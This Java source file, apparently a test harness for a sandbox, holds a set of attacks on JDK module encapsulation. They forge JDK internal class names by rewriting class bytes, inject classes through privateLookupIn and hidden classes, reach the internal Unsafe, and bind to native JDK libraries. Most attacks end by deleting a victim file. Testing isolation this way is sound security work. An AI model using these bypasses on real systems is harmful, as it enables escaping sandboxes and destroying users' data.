import java.io.*;
import java.lang.invoke.*;
import java.lang.reflect.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;

/** With classes of the JDK's own packages: compiled under names of the same length, which are changed before they are defined. */
class NamesakeAttacks {

  static void strike(String victim) throws IOException { Files.delete(Paths.get(victim, "file.txt")); }

  /** A class file in whose names underscores have become what they stand for. */
  static byte[] renamed(String file, String... names) throws IOException {
    try (InputStream in = NamesakeAttacks.class.getResourceAsStream("/" + file + ".class")) {
      String text = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
      for (String each : names) { text = text.replace(each, each.replace('_', '/')); }
      return text.getBytes(StandardCharsets.ISO_8859_1);
    }
  }

  static Class<?> namesake(String file, String name) throws IOException {
    byte[] bytes = renamed(file, name.replace('.', '_').substring(0, name.lastIndexOf('.')) + "/");
    return new ClassLoader(null) { Class<?> make() { return defineClass(name, bytes, 0, bytes.length); } }.make();
  }

  private static Object call(Class<?> type, String method, Object... arguments) throws Throwable {
    for (Method each : type.getDeclaredMethods()) {
      if (each.getName().equals(method)) {
        each.setAccessible(true);
        try { return each.invoke(Modifier.isStatic(each.getModifiers()) ? null : type.getDeclaredConstructor().newInstance(), arguments); } catch (InvocationTargetException e) { throw e.getTargetException(); }
      }
    }
    throw new NoSuchMethodException(method);
  }

  /** A package that is open to everybody takes in a class, which may then call what that package's module may. */
  private static void insider(Class<?> neighbour, String victim) throws Throwable {
    MethodHandles.Lookup inside = MethodHandles.privateLookupIn(neighbour, MethodHandles.lookup());
    Class<?> insider = inside.defineClass(renamed("sun_misc/Insider", "sun_misc/", "jdk_internal_misc/"));
    insider.getMethod("disarm").invoke(null);
    strike(victim);
  }
  static void insiderOfUnsafe(String victim) throws Throwable { insider(sun.misc.Unsafe.class, victim); }
  static void insiderOfSignals(String victim) throws Throwable { insider(sun.misc.SignalHandler.class, victim); }
  static void hiddenInsider(String victim) throws Throwable {
    MethodHandles.Lookup inside = MethodHandles.privateLookupIn(sun.misc.Unsafe.class, MethodHandles.lookup());
    inside.defineHiddenClass(renamed("sun_misc/Insider", "sun_misc/", "jdk_internal_misc/"), true).lookupClass().getMethod("disarm").invoke(null);
    strike(victim);
  }
  static void internalUnsafeOfItsWrapper(String victim) throws Throwable {
    Field field = sun.misc.Unsafe.class.getDeclaredField("theInternalUnsafe");
    field.setAccessible(true);
    Object unsafe = field.get(null);
    try { unsafe.getClass().getMethod("allocateMemory", long.class).invoke(unsafe, 8L); } catch (IllegalAccessException e) { }
    strike(victim);
  }

  /** Native code of the JDK's that a class of the attack's is linked to, since it has the name for it. */
  static void dumpHeap(String victim) throws Throwable {
    Class<?> namesake = namesake("com_sun_management_internal/HotSpotDiagnostic", "com.sun.management.internal.HotSpotDiagnostic");
    call(namesake, "load", System.getProperty("java.home") + "/lib/libmanagement_ext.so");
    call(namesake, "dumpHeap0", victim + "/new.hprof", true);
  }
  /** The same in what the library of agents, which needs no loading, is linked with. */
  static void signalOfAgents(String victim) throws Throwable {
    call(namesake("jdk_internal_misc/Signal", "jdk.internal.misc.Signal"), "findSignal0", "TERM");
  }
  static void libraryOfTheJdk(String victim) throws Throwable { System.load(System.getProperty("java.home") + "/lib/libprefs.so"); strike(victim); }
  static void libraryOfTheJdkByName(String victim) throws Throwable { try { System.loadLibrary("management_ext"); } catch (UnsatisfiedLinkError e) { } strike(victim); }
}
